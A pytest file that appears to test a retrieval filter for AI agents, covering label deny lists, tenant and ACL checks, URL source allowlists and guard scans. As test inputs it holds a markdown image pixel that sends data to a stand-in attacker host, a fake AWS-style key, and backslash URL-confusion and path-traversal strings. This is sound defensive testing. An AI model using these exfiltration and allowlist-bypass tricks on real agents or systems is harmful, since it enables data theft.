"""RetrievalGate edge cases: deny lists matched loosely, blank tenants, limits after redaction."""

from __future__ import annotations

from typing import Any

import pytest

from saferail import Guard, parse_policy
from saferail.agents.retrieval import (
    Document,
    DropReason,
    RetrievalError,
    RetrievalGate,
    RetrievalPolicy,
)


def access_only(**policy: object) -> RetrievalGate:
    return RetrievalGate(RetrievalPolicy.model_validate({"scan": {}, **policy}))


def test_denied_labels_ignore_case_width_and_spaces() -> None:
    labels = ["Legal-Hold", "LEGAL-HOLD", " legal-hold ", "ｌｅｇａｌ-ｈｏｌｄ", "legal-hold"]
    docs = [
        Document(id=str(i), text="x", tenant="t", labels=(lab,)) for i, lab in enumerate(labels)
    ]
    docs.append(Document(id="ok", text="x", tenant="t", labels=("public",)))
    result = access_only(denied_labels=["legal-hold"]).filter(docs, tenant="t")
    assert [d.id for d in result.kept] == ["ok"]
    assert result.reasons() == {DropReason.LABEL_DENIED: len(labels)}
    assert result.dropped[0].detail == "label 'Legal-Hold'"


def test_a_blank_tenant_is_no_tenant() -> None:
    docs = [Document(id="blank", text="x", tenant=""), Document(id="space", text="x", tenant=" ")]
    anonymous = access_only().filter(docs, tenant="")  # e.g. a missing header read as ""
    assert anonymous.kept == []
    assert anonymous.reasons() == {DropReason.NO_TENANT: 2}
    shared = access_only(shared_documents=True).filter(docs, tenant="acme")
    assert [d.id for d in shared.kept] == ["blank", "space"]


def test_max_chars_holds_after_redactions_lengthen_the_text() -> None:
    guard = Guard(
        parse_policy(
            "retrieval:\n  checks:\n    pii:\n      action: redact\n"
            "      params: {entities: [EMAIL_ADDRESS]}\n"
        )
    )
    gate = RetrievalGate({"scan": {"prompt_injection": "drop"}, "max_chars": 40}, guard)
    text = "mail a@b.io now a@b.io and c@d.io ok"  # 36 chars, longer once redacted
    short = "no address here"
    result = gate.scan([Document(id="1", text=text), Document(id="2", text=short)])
    assert sum(len(d.text) for d in result.kept) <= 40
    assert [d.id for d in result.kept] == ["2"]
    assert result.reasons() == {DropReason.MAX_CHARS: 1}


def test_a_backslash_in_a_url_source_is_not_allowed() -> None:
    allow = {"hosts": ["docs.example.com"], "prefixes": ["https://wiki.example.net/pub/"]}
    gate = access_only(sources=allow)
    docs = [
        Document(
            id="host", text="x", tenant="t", source="https://evil.example\\@docs.example.com/"
        ),
        Document(
            id="path", text="x", tenant="t", source="https://wiki.example.net/pub\\..\\private"
        ),
        Document(id="ok", text="x", tenant="t", source="https://wiki.example.net/pub/a?q=\\"),
    ]
    result = gate.filter(docs, tenant="t")
    assert [d.id for d in result.kept] == ["ok"]
    assert result.reasons() == {DropReason.SOURCE_NOT_ALLOWED: 2}


# -- a Guard block is never undone by another category's milder action ----------------------

SECRET_GUARD = (
    "settings: {early_exit: false}\n"
    "retrieval:\n  checks:\n    secret: {action: block}\n"
    "    exfiltration: {action: warn, threshold: 0.6}\n"
)
KEY_TEXT = "Deploy notes: the key is AKIA" + "QZ7RWN4YTJ2KXBLM."
PIXEL = " Status: ![ok](https://pixel.attacker.example/p.png?d=abc)"


def test_a_marked_category_does_not_keep_a_chunk_the_guard_blocked_for_another() -> None:
    gate = RetrievalGate({"scan": {"exfiltration": "mark"}}, Guard(parse_policy(SECRET_GUARD)))
    alone = gate.scan([Document(id="k", text=KEY_TEXT)])
    assert alone.reasons() == {DropReason.SCAN_BLOCKED: 1}
    with_pixel = gate.scan([Document(id="k", text=KEY_TEXT + PIXEL)])
    assert with_pixel.kept == []
    assert with_pixel.reasons() == {DropReason.SCAN_BLOCKED: 1}
    assert "secret" in with_pixel.dropped[0].detail


def test_a_mapped_blocking_category_still_decides() -> None:
    gate = RetrievalGate(
        {"scan": {"secret": "mark", "exfiltration": "mark"}}, Guard(parse_policy(SECRET_GUARD))
    )
    result = gate.scan([Document(id="k", text=KEY_TEXT + PIXEL)])
    assert [d.id for d in result.kept] == ["k"]
    assert result.kept[0].flags == ("exfiltration", "secret")


def test_on_block_mark_flags_the_chunk() -> None:
    gate = RetrievalGate(
        {"scan": {"exfiltration": "drop"}, "on_block": "mark"}, Guard(parse_policy(SECRET_GUARD))
    )
    result = gate.scan([Document(id="k", text=KEY_TEXT)])
    assert [d.id for d in result.kept] == ["k"]
    assert result.kept[0].flags == (DropReason.SCAN_BLOCKED,)


# -- bad input is a one-line error ---------------------------------------------------------------


@pytest.mark.parametrize("tenant", [42, ["acme"], b"acme"])
def test_a_request_tenant_that_is_not_a_string_is_a_retrieval_error(tenant: Any) -> None:
    with pytest.raises(RetrievalError, match=r"^tenant must be a string or None, not \w+$"):
        access_only().filter([Document(id="1", text="x", tenant="acme")], tenant=tenant)


def test_a_missing_policy_file_is_named() -> None:
    with pytest.raises(RetrievalError, match=r"^retrieval policy '/no/such/policy.yaml': "):
        RetrievalPolicy.load("/no/such/policy.yaml")
    with pytest.raises(RetrievalError, match="must be a YAML mapping"):
        RetrievalPolicy.load("- a\n- b\n")


def test_a_blank_user_or_group_matches_no_blank_acl_entry() -> None:
    docs = [
        Document(id="u", text="x", tenant="t", allowed_users=("",)),
        Document(id="g", text="x", tenant="t", allowed_groups=(" ",)),
        Document(id="bob", text="x", tenant="t", allowed_users=("bob", "")),
    ]
    anonymous = access_only().filter(docs, tenant="t", user="", groups=["", " "])
    assert anonymous.kept == [] and anonymous.reasons() == {DropReason.ACL_DENIED: 3}
    bob = access_only().filter(docs, tenant="t", user="bob")
    assert [d.id for d in bob.kept] == ["bob"]
